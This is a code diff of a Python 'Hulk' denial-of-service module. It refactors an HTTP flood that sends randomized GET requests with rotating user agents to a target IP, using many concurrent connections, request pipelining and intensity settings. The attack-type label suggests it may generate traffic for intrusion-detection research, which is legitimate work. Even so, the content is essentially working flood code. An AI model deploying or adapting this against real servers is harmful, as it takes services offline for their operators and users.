@@ -1,11 +1,10 @@
 """Hulk DoS attack implementation"""
 
-import asyncio
-import aiohttp
 import logging
 import random
 import string
 from .base_attack import BaseAttack
+from .http_flood import HTTPFlood
 
 logger = logging.getLogger(__name__)
 
@@ -13,12 +12,12 @@ logger = logging.getLogger(__name__)
 class DoSHulk(BaseAttack):
     """Hulk DoS attack - HTTP flood with random URLs"""
     
+    DEFAULT_PORT = 80
+    INTENSITY_RATES = {'low': 50, 'medium': 200, 'high': None}
+    
     def get_attack_type(self) -> str:
         return "DoS attacks-Hulk"
     
-    def get_default_port(self) -> int:
-        return 80
-    
     def _generate_random_url(self):
         """Generate random URL"""
         path_len = random.randint(5, 20)
@@ -34,43 +33,34 @@ class DoSHulk(BaseAttack):
         ]
         return random.choice(agents)
     
-    async def _send_request(self, session):
-        """Send single HTTP request"""
-        port = self.target_port or self.get_default_port()
-        url = f"http://{self.target_ip}:{port}{self._generate_random_url()}"
-        
-        headers = {
-            'User-Agent': self._generate_user_agent(),
-            'Accept': '*/*',
-            'Connection': 'keep-alive'
-        }
-        
-        try:
-            async with session.get(url, headers=headers, timeout=5) as response:
-                await response.read()
-                self.packets_sent += 1
-        except Exception as e:
-            logger.debug(f"Request failed: {e}")
+    def _render_request(self) -> bytes:
+        """HTTP request for a random URL"""
+        return (
+            f"GET {self._generate_random_url()} HTTP/1.1\r\n"
+            f"Host: {self.target_ip}\r\n"
+            f"User-Agent: {self._generate_user_agent()}\r\n"
+            f"Accept: */*\r\n"
+            f"Connection: keep-alive\r\n"
+            f"\r\n"
+        ).encode()
     
     async def _execute_attack(self):
         """Execute Hulk attack"""
-        duration = self.parameters.get('duration', 300)  # seconds
+        port = self.target_port or self.get_default_port()
+        duration = self.parameters.get('duration') or 300  # seconds
         concurrent_requests = self.parameters.get('concurrent', 50)
         
-        logger.info(f"Hulk: Starting attack on {self.target_ip} with {concurrent_requests} concurrent requests")
+        logger.info(f"Hulk: Starting attack on {self.target_ip} with {concurrent_requests} connections")
         
-        connector = aiohttp.TCPConnector(limit=concurrent_requests)
-        async with aiohttp.ClientSession(connector=connector) as session:
-            start_time = asyncio.get_event_loop().time()
-            
-            while (asyncio.get_event_loop().time() - start_time) < duration:
-                tasks = [self._send_request(session) for _ in range(concurrent_requests)]
-                await asyncio.gather(*tasks, return_exceptions=True)
-                
-                if self.packets_sent % 1000 == 0:
-                    logger.info(f"Hulk: Sent {self.packets_sent} requests")
-                
-                await asyncio.sleep(0.1)
+        flood = HTTPFlood(
+            self.target_ip,
+            port,
+            self._render_request,
+            self.rate,
+            self.record_sent,
+            connections=concurrent_requests,
+            pipeline=self.parameters.get('pipeline', 16)
+        )
+        await flood.run(duration)
         
-        logger.info(f"Hulk: Attack finished. Total requests: {self.packets_sent}")
-
+        logger.info(f"Hulk: Attack finished. Total requests: {self.packets_sent} ({flood.get_stats()})")